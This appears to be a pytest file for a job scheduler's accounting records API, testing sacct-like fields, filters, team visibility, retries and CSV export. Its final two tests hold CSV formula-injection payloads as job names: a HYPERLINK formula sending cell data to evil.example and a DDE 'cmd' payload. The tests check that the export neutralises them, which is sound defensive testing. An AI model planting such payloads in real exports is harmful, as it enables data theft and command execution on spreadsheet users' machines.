"""GET /api/v1/accounting/records/ like sacct, and better: held and used resources, efficiency, exit code,
attempt, the rate used; filters team, user, since, until, outcome, node; CSV."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

from accounting.meter import Usage
from jobs.models import Outcome
from tests.accounting.conftest import NOW
from tests.conftest import api_client_for
from tests.factories import TeamFactory, member_of

RECORDS = "/api/v1/accounting/records/"


def test_the_sacct_fields(api, member, team, released):
    record = released(
        member, team, held_for=timedelta(hours=1, minutes=2, seconds=3), cpus=2, memory_mb=512,
        usage=Usage(cpu_seconds=3723.0, memory_peak_mb=128),
    )  # fmt: skip

    row = api.get(RECORDS).json()["results"][0]

    assert row["held_at"].startswith("2026-03-02T12:00:00") and row["released_at"].startswith("2026-03-02T13:02:03")
    assert row["elapsed"] == "01:02:03"
    assert row["alloc_tres"] == "cpu=2,mem=512M,gres/gpu=0"
    assert row["cpu_seconds_held"] == "7446.000" and row["cpu_seconds_used"] == "3723.000"
    assert row["cpu_efficiency"] == "0.5000" and row["memory_efficiency"] == "0.2500"
    assert row["peak_memory_bytes"] == 128 * 1024 * 1024
    assert (row["exit_code"], row["outcome"], row["node"], row["attempt"]) == (0, "succeeded", "n1", 1)
    assert row["user"] == "alice" and row["image"] == "busybox"
    assert row["cost"] == str(record.cost) and row["currency"] == "EUR" and row["rate_id"] == 0


def test_filters_by_user_outcome_node_and_time(api, member, team, teammate, released):
    released(member, team, node="n1", outcome=Outcome.SUCCEEDED)
    released(teammate, team, node="n2", outcome=Outcome.FAILED, held_at=NOW + timedelta(days=2))

    def jobs(**query):
        return [r["user"] for r in api.get(RECORDS, query).json()["results"]]

    assert jobs(user="bob") == ["bob"]
    assert jobs(outcome="failed") == ["bob"] and jobs(node="n1") == ["alice"]
    assert jobs(since="2026-03-03") == ["bob"] and jobs(until="2026-03-03") == ["alice"]
    assert jobs(team="red") == ["bob", "alice"]


def test_a_bad_filter_is_400(api, member, team):
    assert api.get(RECORDS, {"outcome": "exploded"}).status_code == 400
    assert api.get(RECORDS, {"since": "yesterday"}).status_code == 400


def test_members_see_their_teams_records_operators_every_teams(
    api, member, team, outsider, other_team, operator, released
):
    released(member, team)
    released(outsider, other_team)

    assert [r["team"] for r in api.get(RECORDS).json()["results"]] == ["red"]
    assert [r["team"] for r in api.get(RECORDS, {"team": "blue"}).json()["results"]] == []
    ops = api_client_for(operator)
    assert sorted(r["team"] for r in ops.get(RECORDS).json()["results"]) == ["blue", "red"]
    assert [r["team"] for r in ops.get(RECORDS, {"team": "blue"}).json()["results"]] == ["blue"]


def test_csv_is_the_whole_filtered_list(api, member, team, released, settings):
    for i in range(3):
        released(member, team, held_at=NOW + timedelta(hours=i), usage=Usage(cpu_seconds=1.5, memory_peak_mb=None))

    response = api.get(RECORDS, {"format": "csv", "node": "n1"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 3
    assert rows[0]["alloc_tres"] == "cpu=1,mem=64M,gres/gpu=0" and rows[0]["memory_efficiency"] == ""
    assert sum(Decimal(r["cost"]) for r in rows) > 0


def test_wrong_method_is_405(api, member):
    assert api.post(RECORDS, {}).status_code == 405


def test_a_stranger_gets_no_records(db, released, member, team):
    released(member, team)
    stranger = api_client_for(member_of(TeamFactory(slug="green"), "gus"))

    assert stranger.get(RECORDS).json()["results"] == []


def test_a_failed_run_keeps_its_exit_code_and_a_retry_its_attempt(api, member, team, nodes):
    from jobs.lifecycle.actions import hold, release_lost
    from jobs.lifecycle.history import REAPER
    from pool.placement.types import Placement
    from tests.factories import run_to_release, submit_job

    job = submit_job(member, team, max_retries=1)
    on = nodes["n1"]
    hold([Placement(job.pk, 1, on, on.cpu_ids[:1], [], job.memory_mb)], now=NOW)
    release_lost(
        job, node_name="n1", last_heartbeat=NOW + timedelta(minutes=1), now=NOW + timedelta(minutes=2), actor=REAPER
    )
    job.refresh_from_db()
    hold([Placement(job.pk, 2, on, on.cpu_ids[:1], [], job.memory_mb)], now=NOW + timedelta(minutes=3))
    job.refresh_from_db()
    run_to_release(job, now=NOW + timedelta(minutes=4), outcome=Outcome.FAILED, exit_code=3)

    rows = api.get(RECORDS, {"format": "json"}).json()["results"]

    assert [(r["attempt"], r["outcome"], r["exit_code"]) for r in rows] == [(2, "failed", 3), (1, "node_lost", None)]


def test_csv_neutralises_a_job_name_that_a_spreadsheet_would_run(api, member, team, released):
    released(member, team, name='=HYPERLINK("http://evil.example/?x="&A1,"click")')

    response = api.get(RECORDS, {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["job_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_operators_all_team_csv_neutralises_every_teams_names(
    member, team, outsider, other_team, operator, released
):
    released(member, team, name="+cmd|' /C calc'!A0")
    released(outsider, other_team, name="\t=1+1")

    response = api_client_for(operator).get(RECORDS, {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted((r["team"], r["job_name"]) for r in rows) == [("blue", "'\t=1+1"), ("red", "'+cmd|' /C calc'!A0")]
